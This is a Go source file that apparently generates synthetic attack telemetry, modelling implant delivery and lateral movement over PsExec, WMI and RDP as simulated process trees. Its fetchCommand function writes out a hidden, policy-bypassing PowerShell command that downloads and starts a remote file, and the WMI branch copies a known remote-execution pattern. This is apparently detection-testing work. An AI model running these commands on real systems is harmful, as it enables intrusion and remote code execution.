package attack

import (
	"fmt"

	"socrates/generator/chance"
	"socrates/generator/life"
	"socrates/generator/org"
	"socrates/generator/tick"
	"socrates/generator/trace"
)

// Memory is what later stages know of earlier ones: when an implant was started on a device, and where it came from. A
// scenario shows it every stage in the order of the file.
type Memory struct {
	implants map[string]Args // by device and file
	latest   map[string]Args // by device
}

// Hidden arguments, filled by Memory.
const (
	born   = "(born)"   // when the stage began that started the implant
	route  = "(route)"  // the activity that brought it to a server
	holder = "(holder)" // *org.Account: whose account that was done with
	by     = "(by)"     // Args of the implant on the device from which a step of lateral movement is taken
	script = "script"
	domain = "domain"
)

// Stage remembers what the stage brings, and fills in what it builds on.
func (m *Memory) Stage(a *Activity, args Args, start int64) {
	file := args.File("implant")
	if file == nil {
		return
	}
	if m.implants == nil {
		m.implants, m.latest = map[string]Args{}, map[string]Args{}
	}
	switch a.Name {
	case "payload", "lolbin-download":
		m.keep(args.Person("on").Device, Args{"implant": file, born: start, script: args[script], domain: args[domain]})
	case "lateral-smb", "lateral-wmi", "lateral-rdp":
		if from, ok := m.latest[args.Person("on").Device.Name]; ok {
			args[by] = from
		}
		m.keep(args.Device("to"), Args{"implant": file, born: start, route: a.Name, holder: account(args.Person("as"))})
		return
	}
	if p := args.Person("on"); p != nil {
		m.fill(args, m.implants[p.Device.Name+file.SHA256])
	}
	if d := args.Device("at"); d != nil {
		m.fill(args, m.implants[d.Name+file.SHA256])
	}
}

func (m *Memory) keep(d *org.Device, known Args) {
	m.implants[d.Name+known.File("implant").SHA256], m.latest[d.Name] = known, known
}

func (m *Memory) fill(args, known Args) {
	for k, v := range known {
		if _, has := args[k]; !has && v != nil {
			args[k] = v
		}
	}
}

// fallback is how long after arrival an implant starts that no stage of the scenario brought.
const fallback = 61*tick.Minute + 7*tick.Second + 313*tick.Millisecond

// pid is a process id that is the same wherever the same thing on a device is spoken of.
func pid(d *org.Device, what string) int64 {
	return 4 * (1100 + int64(chance.Hash(d.Hash, what)%5200))
}

// implantOf is the running implant of a person's device: the same process id and birth in every activity that speaks of it.
func implantOf(e trace.Env, d *life.Day, a Args) *trace.Proc {
	im, dev := a.File("implant"), d.P.Device
	at := a.Number(born, d.Arrive+fallback)
	host := trace.New(dev, e.O.Image(dev, "wscript.exe"), d.Explorer.User, d.Explorer, at+20*tick.Second+137*tick.Millisecond, pid(dev, "script"), scriptCommand(d, a.File(script)))
	ps := trace.New(dev, e.O.Image(dev, "powershell.exe"), d.Explorer.User, host, at+22*tick.Second+408*tick.Millisecond, pid(dev, "powershell"), fetchCommand(a.Text(domain, ""), im))
	return trace.New(dev, im, d.Explorer.User, ps, at+30*tick.Second+951*tick.Millisecond, pid(dev, im.SHA256), "")
}

func scriptCommand(d *life.Day, file *org.Image) string {
	if file == nil {
		return "wscript.exe"
	}
	return `"C:\Windows\System32\WScript.exe" "` + `C:\Users\` + d.P.Sam + `\Downloads\` + file.File + `" `
}

func fetchCommand(host string, im *org.Image) string {
	code := fmt.Sprintf("$w=New-Object Net.WebClient;$w.DownloadFile('https://%s/u/%s',\"$env:APPDATA\\%s\");Start-Process \"$env:APPDATA\\%s\"", host, im.File, im.File, im.File)
	return "powershell.exe -w hidden -nop -ep bypass -enc " + life.Encode(code)
}

// via is what is known of the implant from which a step of lateral movement is taken.
func via(a Args) Args {
	if known, ok := a[by].(Args); ok {
		return known
	}
	return a
}

// serverImplant is the implant on a server, as the step of lateral movement started it that brought it there; without one, a
// service that was there before.
func serverImplant(e trace.Env, at int64, d *org.Device, a Args) *trace.Proc {
	start := a.Number(born, at-11*tick.Minute-419*tick.Millisecond)
	acc, _ := a[holder].(*org.Account)
	chain := landing(e, start, d, a.File("implant"), a.Text(route, ""), acc)
	return chain[len(chain)-1]
}

// landing is the chain of processes through which an implant is started on a server; the last is the implant. It is the same
// wherever it is spoken of.
func landing(e trace.Env, start int64, d *org.Device, im *org.Image, route string, acc *org.Account) []*trace.Proc {
	b := life.ServerBoot(e.O, d, start)
	next := func(file string, u *trace.User, parent *trace.Proc, wait int64, cmd string) *trace.Proc {
		return trace.New(d, e.O.Image(d, file), u, parent, start+wait*tick.Millisecond, pid(d, route+file), cmd)
	}
	var chain []*trace.Proc
	switch route {
	case "lateral-smb":
		svc := next("psexesvc.exe", trace.System, b.Services, 2931, `C:\Windows\PSEXESVC.exe`)
		chain = []*trace.Proc{svc, next("cmd.exe", trace.System, svc, 4417, `"cmd.exe" /c `+im.File)}
	case "lateral-wmi":
		host := next("wmiprvse.exe", trace.NetworkService, b.Launch, 2409, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`)
		cmd := next("cmd.exe", trace.As(e.O, acc), host, 3308, fmt.Sprintf(`cmd.exe /Q /c %s 1> \\127.0.0.1\ADMIN$\__%d.%d 2>&1`, im.Path(acc.Sam), start/tick.Second%1_000_000_000, pid(d, "output")))
		cmd.Integrity, cmd.Elevation, cmd.Session, cmd.Logon = "High", "TokenElevationTypeDefault", 0, pid(d, "logon")<<9
		chain = []*trace.Proc{host, cmd}
	case "lateral-rdp":
		chain = []*trace.Proc{next("explorer.exe", trace.As(e.O, acc), b.Winlogon, 2207, `C:\Windows\Explorer.EXE`)}
	default:
		chain = []*trace.Proc{b.Services}
	}
	parent := chain[len(chain)-1]
	return append(chain, trace.New(d, im, parent.User, parent, start+6233*tick.Millisecond, pid(d, im.SHA256), ""))
}

// elevated is a process that runs with all the rights of its user.
func elevated(p *trace.Proc) *trace.Proc {
	q := *p
	q.Integrity, q.Elevation = "High", "TokenElevationTypeFull"
	return &q
}

// shell runs a command line the way implants do: through cmd.exe, which starts the program.
func shell(e trace.Env, p *trace.Proc, at int64, file, cmd string) *trace.Proc {
	c := e.Start(p.Device, e.O.Image(p.Device, "cmd.exe"), p.User, p, at, `C:\Windows\system32\cmd.exe /c `+cmd)
	e.Start(p.Device, e.O.Image(p.Device, "conhost.exe"), p.User, c, at+e.R.Between(4*tick.Millisecond, 40*tick.Millisecond), `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`)
	return e.Start(p.Device, e.O.Image(p.Device, file), p.User, c, at+e.R.Between(30*tick.Millisecond, 90*tick.Millisecond), cmd)
}
